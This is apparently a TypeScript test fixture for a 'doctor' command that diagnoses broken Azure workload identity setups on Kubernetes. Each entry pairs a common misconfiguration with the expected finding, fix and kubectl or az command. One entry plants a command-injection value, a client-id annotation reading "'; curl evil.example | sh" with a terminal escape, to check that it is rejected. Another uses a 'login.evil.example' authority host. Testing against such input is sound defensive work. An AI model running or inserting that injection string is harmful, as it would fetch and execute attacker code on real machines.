/** Common mistakes, seen from outside the cluster: the set-up, and the finding that `doctor` must report. */
import type { Check } from "../../../src/cli/doctor/examination.ts";
import {
  CLIENT_ID,
  container,
  MOUNT_PATH,
  pod,
  serviceAccount,
  TENANT_ID,
  TOKEN_FILE,
  tokenVolume,
  webhook,
} from "../../support/kubernetes/objects.ts";
import { ISSUER, type Setup, SUBJECT } from "./setup.ts";

export interface BrokenSetup extends Setup {
  readonly what: string;
  /** A public thread in which it happened. */
  readonly thread?: string;
  /** Arguments of `doctor`; `--pod` by default. */
  readonly args?: readonly string[];
  readonly expected: {
    /** Of the process; 1 by default. */
    readonly code?: 0 | 1;
    readonly check: string;
    readonly status?: Check["status"];
    /** Name of the finding. */
    readonly finding: string;
    readonly cause?: RegExp;
    readonly fix: RegExp;
    readonly command: RegExp;
  };
}

const ACCOUNT = ["--service-account", "shop/checkout"];
const CREDENTIAL = {
  name: "shop-checkout",
  issuer: ISSUER,
  subject: SUBJECT,
  audiences: ["api://AzureADTokenExchange"],
};
const RESTART = /^kubectl rollout restart deployment DEPLOYMENT --namespace shop$/m;
const SHOW = /^kubectl get pod checkout-6d4b75cb6d-x2x7k --namespace shop --output yaml$/m;
const ANNOTATE =
  /^kubectl annotate serviceaccount checkout --namespace shop --overwrite azure\.workload\.identity\/client-id=CLIENT_ID$/m;
const LABEL =
  /^kubectl patch deployment DEPLOYMENT --namespace shop --patch '\{"spec":.+"azure\.workload\.identity\/use":"true"/m;
const PLAIN_CONTAINER = container({}, { env: [], volumeMounts: [] });
const WITHOUT_IDENTITY = { containers: [PLAIN_CONTAINER], volumes: [] };

// deno-fmt-ignore
export const BROKEN_SETUPS: readonly BrokenSetup[] = [
  // Reaching the cluster
  { what: "kubectl is not installed", hasNoKubectl: true, expected: { check: "cluster", finding: "kubectl_missing", fix: /Install kubectl/, command: /kubectl version --client/ } },
  { what: "kubectl has no context", cluster: { currentContext: undefined }, expected: { check: "cluster", finding: "context_missing", fix: /--context/, command: /kubectl config use-context CONTEXT/ } },
  { what: "the context does not exist", args: [...ACCOUNT, "--context", "nowhere"], expected: { check: "cluster", finding: "context_not_found", fix: /one of the contexts/, command: /config get-contexts/ } },
  { what: "the cluster is stopped", cluster: { isReachable: false }, expected: { check: "cluster", finding: "cluster_unreachable", fix: /cluster is running/, command: /cluster-info/ } },
  { what: "kubectl is older than 1.24", thread: "https://github.com/kubernetes/kubectl/issues/1233", args: ACCOUNT, cluster: { isOld: true }, expected: { check: "token", finding: "kubectl_too_old", fix: /newer kubectl/, command: /kubectl version --client/ } },
  { what: "a user may not create tokens", thread: "https://github.com/kubernetes/cloud-provider-openstack/issues/1514", args: ACCOUNT, cluster: { forbidden: ["create serviceaccounts/token"] }, expected: { check: "token", finding: "forbidden", cause: /dev@contoso\.example is not allowed to create serviceaccounts\/token/, fix: /administrator/, command: /create rolebinding workload-id-create-serviceaccounts-token .+ --user=dev@contoso\.example --namespace shop$/m } },
  { what: "a service account of the cluster may not create tokens", args: ACCOUNT, cluster: { forbidden: ["create serviceaccounts/token"], user: "system:serviceaccount:ci:robot" }, expected: { check: "token", finding: "forbidden", fix: /administrator/, command: /--serviceaccount=ci:robot/ } },
  { what: "a user may not read service accounts", args: ACCOUNT, cluster: { forbidden: ["get serviceaccounts"] }, expected: { check: "service account", finding: "forbidden", fix: /administrator/, command: /create role workload-id-get-serviceaccounts --verb get --resource serviceaccounts --resource-name checkout --namespace shop/ } },
  { what: "a user may not read pods", cluster: { forbidden: ["get pods"] }, expected: { check: "pod", finding: "forbidden", fix: /administrator/, command: /--resource pods/ } },
  { what: "a user may not list webhooks", args: ACCOUNT, cluster: { forbidden: ["list mutatingwebhookconfigurations"] }, expected: { code: 0, check: "webhook", status: "warned", finding: "forbidden", fix: /administrator/, command: /create clusterrole .+ --verb list --resource mutatingwebhookconfigurations/ } },
  { what: "a user may not read the discovery document", args: ACCOUNT, cluster: { forbidden: ["get /.well-known/openid-configuration"] }, expected: { code: 0, check: "cluster issuer", status: "warned", finding: "forbidden", fix: /administrator/, command: /--clusterrole system:service-account-issuer-discovery --user=dev@contoso\.example/ } },
  { what: "the service account does not exist", args: ["--service-account", "shop/chekout"], expected: { check: "service account", finding: "service_account_not_found", cause: /no service account chekout/, fix: /Correct the name/, command: /get serviceaccounts --all-namespaces/ } },
  { what: "the namespace does not exist", args: ["--service-account", "shopp/checkout"], expected: { check: "service account", finding: "namespace_not_found", fix: /Correct the namespace/, command: /get namespaces/ } },
  { what: "the pod does not exist", args: ["--pod", "shop/gone"], expected: { check: "pod", finding: "pod_not_found", fix: /Correct the name/, command: /get pods --all-namespaces/ } },

  // The pod
  { what: "the label is on the service account only", thread: "https://github.com/Azure/AKS/issues/3546", cluster: { pods: [pod(WITHOUT_IDENTITY, { labels: {} })] }, expected: { check: "label", finding: "label_missing", fix: /pod template/, command: LABEL } },
  { what: "the label is on the CronJob, not on its pods", thread: "https://github.com/Azure/azure-workload-identity/issues/754", cluster: { pods: [pod(WITHOUT_IDENTITY, { labels: { "batch.kubernetes.io/job-name": "routesync" } })] }, expected: { check: "label", finding: "label_missing", fix: /under metadata\.labels/, command: LABEL } },
  { what: "a chart sets the label as an annotation", thread: "https://github.com/isindir/sops-secrets-operator/issues/190", cluster: { pods: [pod(WITHOUT_IDENTITY, { labels: {}, annotations: { "azure.workload.identity/use": "true" } })] }, expected: { check: "label", finding: "label_is_annotation", fix: /pod template/, command: LABEL } },
  { what: "the label is True instead of true", cluster: { pods: [pod(WITHOUT_IDENTITY, { labels: { "azure.workload.identity/use": "True" } })] }, expected: { check: "label", finding: "label_value", cause: /"True"/, fix: /"true"/, command: LABEL } },
  { what: "workload identity is not enabled on the cluster", thread: "https://github.com/Azure/azure-workload-identity/issues/1231", cluster: { webhooks: [], pods: [pod(WITHOUT_IDENTITY)] }, expected: { check: "webhook", finding: "webhook_missing", fix: /enable workload identity/, command: /az aks update .+ --enable-oidc-issuer --enable-workload-identity/ } },
  { what: "AKS keeps the webhook away from kube-system", thread: "https://github.com/Azure/azure-workload-identity/issues/525", args: ["--service-account", "kube-system/checkout"], cluster: { serviceAccounts: [serviceAccount(undefined, { namespace: "kube-system" })], webhooks: [webhook({ namespaceSelector: { matchExpressions: [{ key: "control-plane", operator: "DoesNotExist" }] } })] }, trusts: { subject: "system:serviceaccount:kube-system:checkout" }, expected: { check: "webhook", finding: "namespace_excluded", fix: /another namespace/, command: /annotate mutatingwebhookconfiguration azure-wi-webhook-mutating-webhook-configuration admissions\.enforcer\/disabled=true/ } },
  { what: "the webhook is limited to other namespaces", cluster: { webhooks: [webhook({ namespaceSelector: { matchExpressions: [{ key: "kubernetes.io/metadata.name", operator: "In", values: ["prod"] }] } })] }, expected: { check: "webhook", finding: "namespace_excluded", fix: /Change the selector/, command: /get mutatingwebhookconfiguration/ } },
  { what: "an old webhook lets pods start without it", thread: "https://github.com/Azure/AKS/issues/3286", cluster: { webhooks: [webhook({ failurePolicy: "Ignore" })] }, expected: { code: 0, check: "webhook", status: "warned", finding: "webhook_failure_policy", fix: /Upgrade the webhook/, command: /get mutatingwebhookconfiguration/ } },
  { what: "pods started before the webhook after a restart of the cluster", thread: "https://github.com/Azure/azure-workload-identity/issues/790", cluster: { pods: [pod(WITHOUT_IDENTITY)] }, expected: { check: "variables", finding: "pod_not_injected", cause: /older than the label or the webhook/, fix: /Recreate the pod/, command: RESTART } },
  { what: "the pod is older than the service account's annotation", cluster: { pods: [pod({ containers: [container({ AZURE_CLIENT_ID: undefined })] })] }, expected: { check: "variables", finding: "pod_older_than_annotation", fix: /Recreate the pod/, command: RESTART } },
  { what: "the annotation has changed since the pod started", cluster: { serviceAccounts: [serviceAccount({ "azure.workload.identity/client-id": "99999999-2222-3333-4444-555555555555" })] }, expected: { code: 0, check: "variables", status: "warned", finding: "client_id_differs", cause: /99999999-/, fix: /Recreate the pod if the annotation has changed/, command: RESTART } },
  { what: "every container is skipped", cluster: { pods: [pod(WITHOUT_IDENTITY, { annotations: { "azure.workload.identity/skip-containers": "sidecar; app" } })] }, expected: { check: "variables", finding: "containers_skipped", fix: /Remove the containers/, command: RESTART } },
  { what: "a sidecar is added after the webhook", thread: "https://github.com/Azure/azure-workload-identity/issues/791", cluster: { pods: [pod({ containers: [container(), { name: "daprd" }, { name: "azwi-proxy" }] })] }, expected: { code: 0, check: "variables", status: "warned", finding: "container_not_injected", cause: /daprd/, fix: /pod template/, command: RESTART } },
  { what: "a client secret is set as well", cluster: { pods: [pod({ containers: [container({ AZURE_CLIENT_SECRET: "hush" })] })] }, expected: { code: 0, check: "variables", status: "warned", finding: "secret_set", fix: /Remove AZURE_CLIENT_SECRET/, command: RESTART } },
  { what: "the tenant has v2.0 appended", thread: "https://github.com/Azure/azure-sdk-for-go/issues/23699", cluster: { pods: [pod({ containers: [container({ AZURE_TENANT_ID: `${TENANT_ID}v2.0` })] })] }, expected: { check: "variables", finding: "variable_invalid", cause: /v2\.0/, fix: /Remove it from the pod template/, command: RESTART } },
  { what: "the proxy sidecar on the host's network", thread: "https://github.com/Azure/azure-workload-identity/issues/1050", cluster: { pods: [pod({ hostNetwork: true }, { annotations: { "azure.workload.identity/inject-proxy-sidecar": "true" } })] }, expected: { check: "pod", finding: "host_network_proxy", fix: /inject-proxy-sidecar/, command: SHOW } },
  { what: "the token file is mounted with subPath", cluster: { pods: [pod({ containers: [container({}, { volumeMounts: [{ name: tokenVolume().name!, mountPath: TOKEN_FILE, subPath: "token/azure-identity-token" }] })] })] }, expected: { check: "token volume", finding: "token_sub_path", fix: /without subPath/, command: SHOW } },
  { what: "the token file is the one for the API server", thread: "https://github.com/MicrosoftDocs/azure-docs/issues/116275", cluster: { pods: [pod({ containers: [container({ AZURE_FEDERATED_TOKEN_FILE: "/var/run/secrets/kubernetes.io/serviceaccount/token" }, { volumeMounts: [{ name: "kube-api-access", mountPath: "/var/run/secrets/kubernetes.io/serviceaccount" }] })], volumes: [{ name: "kube-api-access", projected: { sources: [{ serviceAccountToken: { expirationSeconds: 3607, path: "token" } }] } }] })] }, expected: { check: "token volume", finding: "token_audience", cause: /the API server/, fix: /api:\/\/AzureADTokenExchange/, command: SHOW } },
  { what: "the token file is a folder", thread: "https://github.com/Azure/ARO-RP/pull/3924", cluster: { pods: [pod({ containers: [container({ AZURE_FEDERATED_TOKEN_FILE: `${MOUNT_PATH}/token` })] })] }, expected: { check: "token volume", finding: "token_volume_missing", cause: /token\/azure-identity-token/, fix: /Remove AZURE_FEDERATED_TOKEN_FILE/, command: SHOW } },
  { what: "the token file is in no volume", cluster: { pods: [pod({ containers: [container({ AZURE_FEDERATED_TOKEN_FILE: "/token" })] })] }, expected: { check: "token volume", finding: "token_not_mounted", fix: /the webhook sets it/, command: SHOW } },
  { what: "the volume has another audience", cluster: { pods: [pod({ volumes: [tokenVolume({ audience: "vault" })] })] }, expected: { check: "token volume", finding: "token_audience", cause: /vault/, fix: /api:\/\/AzureADTokenExchange/, command: SHOW } },
  { what: "the token lives for two days", cluster: { pods: [pod({ volumes: [tokenVolume({ expirationSeconds: 172_800 })] })] }, expected: { check: "token volume", finding: "token_lifetime", fix: /86400/, command: SHOW } },
  { what: "a job uses the default service account", thread: "https://github.com/Azure/azure-workload-identity/issues/691", cluster: { serviceAccounts: [serviceAccount({}, { name: "default" })], pods: [pod({ serviceAccountName: "default", containers: [container({ AZURE_CLIENT_ID: undefined })] })] }, expected: { check: "service account", finding: "default_service_account", fix: /serviceAccountName/, command: /"serviceAccountName":"SERVICE_ACCOUNT"/ } },

  // The identity
  { what: "the annotation has an underscore", thread: "https://github.com/Azure/azure-workload-identity/issues/1026", args: ACCOUNT, cluster: { serviceAccounts: [serviceAccount({ "azure.workload.identity/client_id": CLIENT_ID })] }, expected: { check: "service account", finding: "annotation_misspelt", cause: /client_id/, fix: /Rename the annotation to azure\.workload\.identity\/client-id/, command: ANNOTATE } },
  { what: "the Service is annotated, not the service account", thread: "https://github.com/Azure/azure-workload-identity/issues/1357", args: ACCOUNT, cluster: { serviceAccounts: [serviceAccount({})] }, expected: { check: "service account", finding: "annotation_missing", fix: /Add the annotation/, command: ANNOTATE } },
  { what: "the annotation is a resource id", thread: "https://github.com/MicrosoftDocs/azure-docs/issues/108526", args: ACCOUNT, cluster: { serviceAccounts: [serviceAccount({ "azure.workload.identity/client-id": "/subscriptions/a73ced30/providers/Microsoft.ManagedIdentity/userAssignedIdentities/checkout" })] }, expected: { check: "service account", finding: "annotation_invalid", cause: /userAssignedIdentities/, fix: /Set the annotation to the GUID/, command: ANNOTATE } },
  { what: "the annotation would run commands", args: ACCOUNT, cluster: { serviceAccounts: [serviceAccount({ "azure.workload.identity/client-id": "'; curl evil.example | sh #\u001b[2J" })] }, expected: { check: "service account", finding: "annotation_invalid", cause: /curl evil/, fix: /GUID/, command: ANNOTATE } },
  { what: "the tenant is not annotated", args: ACCOUNT, cluster: { serviceAccounts: [serviceAccount({ "azure.workload.identity/client-id": CLIENT_ID })] }, expected: { check: "service account", finding: "annotation_missing", fix: /--tenant/, command: /az account show --query tenantId --output tsv/ } },
  { what: "the annotation is an object id", args: ACCOUNT, cluster: { serviceAccounts: [serviceAccount({ "azure.workload.identity/client-id": "99999999-0000-0000-0000-000000000000", "azure.workload.identity/tenant-id": TENANT_ID })] }, expected: { check: "exchange", finding: "AADSTS700016", fix: /client ID|client id/i, command: /az ad sp show --id 99999999-/ } },
  { what: "the tenant does not exist", args: [...ACCOUNT, "--tenant", "00000000-0000-0000-0000-00000000dead"], expected: { check: "exchange", finding: "AADSTS90002", fix: /AZURE_AUTHORITY_HOST|tenant/, command: /az / } },

  // Federation
  { what: "the issuer is not public", thread: "https://github.com/Azure/azure-workload-identity/issues/616", args: ACCOUNT, issuer: "https://kubernetes.default.svc.cluster.local", expected: { check: "cluster issuer", finding: "issuer_not_public", fix: /enable the OIDC issuer/, command: /--enable-oidc-issuer/ } },
  { what: "the API server publishes another issuer", args: ACCOUNT, cluster: { discoveryIssuer: "https://oidc.example/new/" }, expected: { check: "cluster issuer", finding: "issuer_differs", cause: /differs from the issuer/, fix: /--service-account-issuer/, command: /get --raw \/\.well-known\/openid-configuration/ } },
  { what: "the signing key is not published", thread: "https://github.com/Azure/azure-workload-identity/issues/1232", args: ACCOUNT, publishesOldKeys: true, expected: { check: "issuer", finding: "AADSTS7000272", fix: /Publish/, command: /^curl --verbose https:\/\/eastus\S+\/\.well-known\/openid-configuration$/m } },
  { what: "Entra cannot reach the issuer", thread: "https://github.com/Azure/azure-workload-identity/issues/1130", args: ACCOUNT, fault: { code: 90061 }, expected: { check: "exchange", finding: "AADSTS90061", fix: /internet/, command: /az aks show/ } },
  { what: "the credential lacks the issuer's last slash", thread: "https://github.com/Azure/azure-workload-identity/issues/340", args: ACCOUNT, trusts: { issuer: ISSUER.slice(0, -1) }, az: { credentials: [{ ...CREDENTIAL, issuer: ISSUER.slice(0, -1) }] }, expected: { check: "federated credential", finding: "federated_credential_issuer", cause: /character 89, "\/", is missing/, fix: /Correct the issuer/, command: /^az identity federated-credential update --name shop-checkout --identity-name checkout --resource-group shop-rg --issuer https:\/\/eastus\.oic\S+0000\/ --subject/m } },
  { what: "the credential has an issuer of a cluster that is gone", thread: "https://github.com/Azure/azure-workload-identity/issues/1200", args: ACCOUNT, trusts: { issuer: "https://oidc.prod-aks.azure.com/0a1b2c3d-0000/" }, az: { isApplication: true, credentials: [{ ...CREDENTIAL, issuer: "https://oidc.prod-aks.azure.com/0a1b2c3d-0000/" }] }, expected: { check: "federated credential", finding: "federated_credential_issuer", cause: /character 9 is "o" instead of "e"/, fix: /Correct the issuer/, command: /^az ad app federated-credential update --id 11111111-\S+ --federated-credential-id shop-checkout --parameters '\{"issuer":/m } },
  { what: "the subject differs in case", thread: "https://github.com/Azure/login/issues/517", args: ACCOUNT, trusts: { subject: "system:serviceaccount:Shop:checkout" }, az: { credentials: [{ ...CREDENTIAL, name: "other", subject: "system:serviceaccount:billing:invoices" }, { ...CREDENTIAL, subject: "system:serviceaccount:Shop:checkout" }] }, expected: { check: "federated credential", finding: "federated_credential_subject", cause: /"shop-checkout" .+ character 23 is "S" instead of "s"/, fix: /compared exactly/, command: /update --name shop-checkout .+ --subject system:serviceaccount:shop:checkout / } },
  { what: "the credential is for another namespace, and the Azure CLI is not installed", args: ACCOUNT, trusts: { subject: "system:serviceaccount:shop-blue:checkout" }, expected: { check: "exchange", finding: "AADSTS700213", fix: /namespace|subject/, command: /az identity federated-credential create .+ --subject system:serviceaccount:shop:checkout/ } },
  { what: "the credential has another audience", args: ACCOUNT, trusts: { audiences: ["api://other"] }, az: { credentials: [{ ...CREDENTIAL, audiences: ["api://other"] }] }, expected: { check: "federated credential", finding: "federated_credential_audience", cause: /api:\/\/other/, fix: /Correct the audience/, command: /--audiences api:\/\/AzureADTokenExchange$/m } },
  { what: "the identity has no federated credential", args: ACCOUNT, trusts: null, az: {}, expected: { check: "federated credential", finding: "federated_credential_missing", fix: /Create a federated credential/, command: /federated-credential create --name NAME --identity-name checkout/ } },
  { what: "the identity is in Azure Government", thread: "https://github.com/Azure/azure-sdk-for-js/issues/30557", args: ACCOUNT, fault: { code: 900382 }, expected: { check: "exchange", finding: "AADSTS900382", fix: /AZURE_AUTHORITY_HOST/, command: /az cloud show/ } },
  { what: "the pod's authority is another cloud's", cluster: { pods: [pod({ containers: [container({ AZURE_AUTHORITY_HOST: "https://login.microsoftonline.us/" })] })] }, expected: { code: 0, check: "variables", status: "warned", finding: "authority_differs", fix: /--authority https:\/\/login\.microsoftonline\.us /, command: RESTART } },
  { what: "the pod's authority is unknown", cluster: { pods: [pod({ containers: [container({ AZURE_AUTHORITY_HOST: "https://login.evil.example/" })] })] }, expected: { code: 0, check: "variables", status: "warned", finding: "authority_differs", cause: /evil\.example/, fix: /Remove AZURE_AUTHORITY_HOST/, command: RESTART } },
];
